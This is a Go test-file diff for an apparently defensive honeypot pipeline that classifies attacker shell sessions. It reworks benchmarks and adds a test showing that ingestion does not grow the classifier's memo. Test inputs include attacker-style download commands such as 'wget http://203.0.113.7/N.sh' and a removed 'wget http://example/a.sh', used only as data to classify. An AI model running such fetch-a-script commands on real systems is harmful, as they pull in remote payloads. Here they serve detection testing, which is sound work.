@@ -2,6 +2,7 @@ package live
 
 import (
 	"encoding/json"
+	"fmt"
 	"net/http/httptest"
 	"sync"
 	"testing"
@@ -56,7 +57,7 @@ func TestPipelineEndToEnd(t *testing.T) {
 			continue
 		}
 		classified++
-		cat := c.ClassifyUncached(txt)
+		cat := c.Classify(txt)
 		want[cat]++
 		if cat == classify.Unknown {
 			unknown++
@@ -110,7 +111,7 @@ func TestPipelineDeterminism(t *testing.T) {
 	}
 }
 
-// TestPipelineConcurrent hammers Observe/Snapshot/Classify from many
+// TestPipelineConcurrent hammers Observe/Snapshot from many
 // goroutines; run under -race this is the ingest-path safety test.
 func TestPipelineConcurrent(t *testing.T) {
 	recs := simRecords(t, 200000, 4)
@@ -130,7 +131,6 @@ func TestPipelineConcurrent(t *testing.T) {
 		defer wg.Done()
 		for i := 0; i < 50; i++ {
 			_ = p.Snapshot()
-			_ = p.Classify("wget http://example/a.sh")
 		}
 	}()
 	wg.Wait()
@@ -169,77 +169,44 @@ func TestPipelineHandlerAndRegister(t *testing.T) {
 	}
 }
 
-var (
-	benchOnce  sync.Once
-	benchTexts []string
-	benchDLs   []string
-)
-
-func benchCorpus(b *testing.B) ([]string, []string) {
-	benchOnce.Do(func() {
-		seen := map[string]bool{}
-		_, err := simulate.Run(simulate.Config{
-			Scale:   50000,
-			Seed:    1,
-			Discard: true,
-			Sink: func(r *session.Record) {
-				txt := r.CommandText()
-				if txt == "" {
-					return
-				}
-				if !seen[txt] {
-					seen[txt] = true
-					benchTexts = append(benchTexts, txt)
-				}
-				if len(r.Downloads) > 0 && len(benchDLs) < 4000 {
-					benchDLs = append(benchDLs, txt)
-				}
-			},
+// TestObserveDoesNotMemoize: the ingest path must never fill the
+// classifier's memo — keyed by attacker-chosen text, it would grow for
+// as long as the daemon stays up.
+func TestObserveDoesNotMemoize(t *testing.T) {
+	p := NewPipeline(Options{})
+	now := time.Now()
+	for i := 0; i < 10000; i++ {
+		p.Observe(&session.Record{
+			Start: now, End: now,
+			Commands: []session.Command{{Raw: fmt.Sprintf("wget http://203.0.113.7/%d.sh", i)}},
 		})
-		if err != nil {
-			panic(err)
-		}
-	})
-	if len(benchTexts) == 0 || len(benchDLs) == 0 {
-		b.Fatal("empty bench corpus")
 	}
-	return benchTexts, benchDLs
-}
-
-// BenchmarkLiveClassify measures the streaming single-pass classifier.
-func BenchmarkLiveClassify(b *testing.B) {
-	texts, _ := benchCorpus(b)
-	m := NewMatcher(classify.New())
-	var bytes int64
-	b.ResetTimer()
-	for i := 0; i < b.N; i++ {
-		txt := texts[i%len(texts)]
-		bytes += int64(len(txt))
-		_ = m.Classify(txt)
+	if s := p.Snapshot(); s.Classified != 10000 {
+		t.Fatalf("classified %d of 10000", s.Classified)
 	}
-	b.SetBytes(bytes / int64(b.N))
-}
-
-// BenchmarkBatchClassify measures the batch per-rule probe loop on the
-// same corpus (memo bypassed: the memo answers repeats, not new text).
-func BenchmarkBatchClassify(b *testing.B) {
-	texts, _ := benchCorpus(b)
-	c := classify.New()
-	var bytes int64
-	b.ResetTimer()
-	for i := 0; i < b.N; i++ {
-		txt := texts[i%len(texts)]
-		bytes += int64(len(txt))
-		_ = c.ClassifyUncached(txt)
+	if n := p.cls.Memoized(); n != 0 {
+		t.Fatalf("Observe left %d texts in the classifier memo", n)
 	}
-	b.SetBytes(bytes / int64(b.N))
 }
 
 // BenchmarkLiveAssign measures online nearest-medoid assignment over
 // download-session texts.
 func BenchmarkLiveAssign(b *testing.B) {
-	_, dls := benchCorpus(b)
-	a := newAssigner(24, 192, 0.6, 0.25, 256, 1)
+	var dls []string
+	_, err := simulate.Run(simulate.Config{
+		Scale:   50000,
+		Seed:    1,
+		Discard: true,
+		Sink: func(r *session.Record) {
+			if txt := r.CommandText(); txt != "" && len(r.Downloads) > 0 && len(dls) < 4000 {
+				dls = append(dls, txt)
+			}
+		},
+	})
+	if err != nil || len(dls) == 0 {
+		b.Fatalf("bench corpus: %d download texts, err %v", len(dls), err)
+	}
+	a := newAssigner(maxClusters, reservoirSize, newClusterDist, 0.25, 256, 1)
 	b.ResetTimer()
 	for i := 0; i < b.N; i++ {
 		a.observe(dls[i%len(dls)])
